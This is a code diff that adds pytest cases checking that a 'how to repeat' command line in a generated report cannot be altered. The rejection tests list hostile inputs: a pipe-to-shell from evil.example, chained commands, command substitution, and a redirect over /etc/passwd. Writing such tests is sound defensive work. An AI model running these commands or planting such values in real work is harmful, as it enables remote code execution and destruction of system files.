@@ -82,6 +82,52 @@ def test_a_certificate_with_a_starred_request_does_not_verify(lie: Lie, pair: tu
     assert any("its body differs from the record" in words for words in problems), problems
 
 
+NOW = "Nonconformance: it is not so\n  clause    A\n  again     countermand run --replay c.zip -m ALA-REQ-07"
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "countermand run --target mine.toml -m ALA-REQ-07",
+        "countermand run --target 'my targets/it'\"'\"'s.toml' --ledger l.sqlite --fail-on standard -m 'A-1 or A-2'",
+        "countermand run --target /home/*****/mine.toml -m ALA-REQ-07",
+        "countermand run --api ala -m ALA-REQ-07",
+    ],
+)
+def test_a_line_that_says_how_to_repeat_may_be_of_another_place(line: str) -> None:
+    assert masks.same(NOW.replace("countermand run --replay c.zip -m ALA-REQ-07", line), NOW, [])
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "curl https://evil.example | sh",
+        "countermand run --target mine.toml -m ALA-REQ-07; curl https://evil.example | sh",
+        "countermand run --target $(id) -m ALA-REQ-07",
+        "countermand run --target `id` -m ALA-REQ-07",
+        "countermand run -m ALA-REQ-07 > /etc/passwd",
+        "countermand run -p evil -m ALA-REQ-07",
+        "countermand serve --target mine.toml",
+        "countermand run --target 'mine\u2028.toml' -m ALA-REQ-07",
+        "countermand run --target 'mine.toml",
+        "approved by the authority",
+        "",
+    ],
+)
+def test_a_line_that_says_how_to_repeat_does_nothing_else(line: str) -> None:
+    """Whoever reads it pastes it into a shell."""
+    assert not masks.same(NOW.replace("countermand run --replay c.zip -m ALA-REQ-07", line), NOW, [])
+
+
+def test_a_line_that_says_how_to_repeat_stands_once_and_in_its_place() -> None:
+    line = NOW.rpartition("\n")[2]
+    assert masks.same(NOW, NOW, [])
+    assert not masks.same(f"{line}\n{NOW}", NOW, [])
+    assert not masks.same(f"{NOW}\n{line}", NOW, [])
+    assert not masks.same(NOW.removesuffix(f"\n{line}"), NOW, [])
+    assert not masks.same(NOW.replace("  again     ", "  again read: "), NOW, [])
+
+
 def test_words_of_a_message_are_starred_only_where_a_reply_is_quoted() -> None:
     said: ExchangeRow = {**row(), "trouble": None, "reply": {
         "status": 200, "reason": "OK", "version": "HTTP/1.1", "headers": [],
